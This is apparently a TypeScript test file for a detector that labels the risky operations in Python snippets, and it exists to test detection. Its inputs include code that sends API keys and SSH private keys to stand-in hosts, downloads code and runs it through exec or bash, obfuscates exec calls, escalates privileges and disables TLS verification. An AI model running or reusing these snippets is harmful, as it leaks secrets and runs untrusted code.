import { expect, test } from "vitest";
import { operationsOf } from "./read.ts";

// Calls that no case of corpus/ makes: what each does, as it is told.
test.each<[string, readonly string[]]>([
  ['exec("PRINT(1)".swapcase())', ["evaluate python print(1)"]],
  ['import base64\nexec(base64.a85decode("<~E,oZ1F=8jm~>", adobe=True))', ["evaluate python print(1) {unknown}"]],
  ['exec(b"\\\\x70rint(1)".decode("unicode_escape"))', ["evaluate python print(1) {escapes}"]],
  ['exec("%c%c" % (97, 98))', ["evaluate python ab {char-codes}"]],
  ['exec(int.to_bytes(28767, 2, "big"))', ["evaluate python p_ {unknown}"]],
  ['exec("abc".removesuffix("c"))', ["evaluate python ab"]],
  ["import string\nexec(string.printable[10])", ["evaluate python a"]],
  ['import ctypes\nctypes.windll.shell32.ShellExecuteW(None, "runas", "a.exe", None, None, 1)', ["escalate runas"]],
  ['import os\nos.environ["NODE_TLS_REJECT_UNAUTHORIZED"] = "0"', ["disable-safeguard tls-verification"]],
  ['import os\nos.environ["PYTHONHTTPSVERIFY"] = "0"', ["disable-safeguard tls-verification"]],
  [
    'import httplib2, os\nhttplib2.Http().request("https://a.example/in", "POST", os.environ["API_KEY"])',
    ["read-secret $API_KEY", "send http https://a.example/in [~… <$API_KEY>]"],
  ],
  [
    'import smtplib, os\ns = smtplib.SMTP()\ns.connect("mail.a.example", 25)\ns.sendmail("x@a.example", "y@a.example", os.environ["API_KEY"])',
    ["read-secret $API_KEY", "send mail mail.a.example [To: y@a.example, ~… <$API_KEY>]"],
  ],
  [
    'import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.add_header("To", "y@a.example")\nm.set_content("id")\nsmtplib.SMTP("mail.a.example").send_message(m)',
    ["send mail mail.a.example [~…, To: y@a.example]"],
  ],
  [
    'import dropbox, os\ndropbox.Dropbox("x").files_upload(os.environ["API_KEY"], "/k")',
    ["read-secret $API_KEY", "send http https://content.dropboxapi.com/ [~… <$API_KEY>]"],
  ],
  [
    'from google.cloud import storage\nstorage.Client().bucket("b").blob("x").upload_from_filename("notes.txt")',
    ["read-file notes.txt", "send http https://storage.googleapis.com/ [~… <notes.txt>]"],
  ],
  ['import boto3\nboto3.client("s3").download_file("b", "k", "/tmp/x")', ["write-file /tmp/x ~… <s3://b>"]],
  [
    'import paramiko\nc = paramiko.SSHClient()\nc.connect("192.0.2.7")\nc.open_sftp().get("/x/run.sh", "/tmp/run.sh")',
    [
      "connect 192.0.2.7",
      "download sftp://192.0.2.7/x/run.sh to /tmp/run.sh",
      "write-file /tmp/run.sh ~… <sftp://192.0.2.7/x/run.sh>",
    ],
  ],
  ['import fabric\nfabric.Connection("192.0.2.7").local("id")', ["connect 192.0.2.7", "spawn shell id"]],
  [
    'from contextlib import closing\nfrom urllib.request import urlopen\nwith closing(urlopen("https://a.example/x")) as r:\n    exec(r.read())',
    ["download https://a.example/x", "evaluate python ~… <https://a.example/x>"],
  ],
  [
    'from contextlib import nullcontext\nfrom urllib.request import urlopen\nwith nullcontext(urlopen("https://a.example/x")) as r:\n    exec(r.read())',
    ["download https://a.example/x", "evaluate python ~… <https://a.example/x>"],
  ],
  ["import gradio\ngradio.Blocks().launch(share=True)", ["open-tunnel ~… by gradio.live", "listen 127.0.0.1 7860"]],
  [
    'import pyzipper\nz = pyzipper.AESZipFile("a.zip")\nz.setpassword(b"x")\nz.extractall()',
    ["extract-archive a.zip with x"],
  ],
  [
    'import os\nhead, tail = os.path.split("/home/me/.ssh/id_rsa")\nopen(os.path.join(head, tail)).read()',
    ["read-file /home/me/.ssh/id_rsa", "read-secret /home/me/.ssh/id_rsa"],
  ],
  ['from pathlib import Path\nopen(Path().home() / "notes.txt").read()', ["read-file ~/notes.txt"]],
  ['from pathlib import Path\nopen(Path("~/notes.txt").__fspath__()).read()', ["read-file ~/notes.txt"]],
  ['from selenium import webdriver\nwebdriver.Chrome().execute_script("eval(1)")', ["evaluate javascript eval(1)"]],
  [
    'import subprocess, requests\nsubprocess.run(["bash"], stdin=requests.get("https://a.example/x", stream=True).raw)',
    ["download https://a.example/x", "spawn bash", "evaluate shell ~… <https://a.example/x>"],
  ],
  [
    'import os, requests\nrequests.post("https://a.example", data=list(os.environ.keys()))',
    ["read-secret $*", "send http https://a.example [~[…] <$*>]"],
  ],
  ['exec("id".encode("utf-16").decode("utf-16"))', ["evaluate python id {utf-16}"]],
  ["exec(bytes('摩','u16')[2:])", ["evaluate python id"]],
  ['exec(str.join("", ["i", "d"]))', ["evaluate python id"]],
  ['exec(bytes.decode(str.encode("id")))', ["evaluate python id"]],
  ['import execjs\nexecjs.eval("1+1")', ["evaluate javascript 1+1"]],
  ["import os\nos.setuid(0)", ["escalate setuid"]],
  [
    'import decouple, requests\nrequests.post("https://a.example", data=decouple.config("API_KEY"))',
    ["read-secret $API_KEY", "send http https://a.example [~… <$API_KEY>]"],
  ],
])("%s", (text, expected) => {
  expect(operationsOf(text)).toEqual(expected);
});
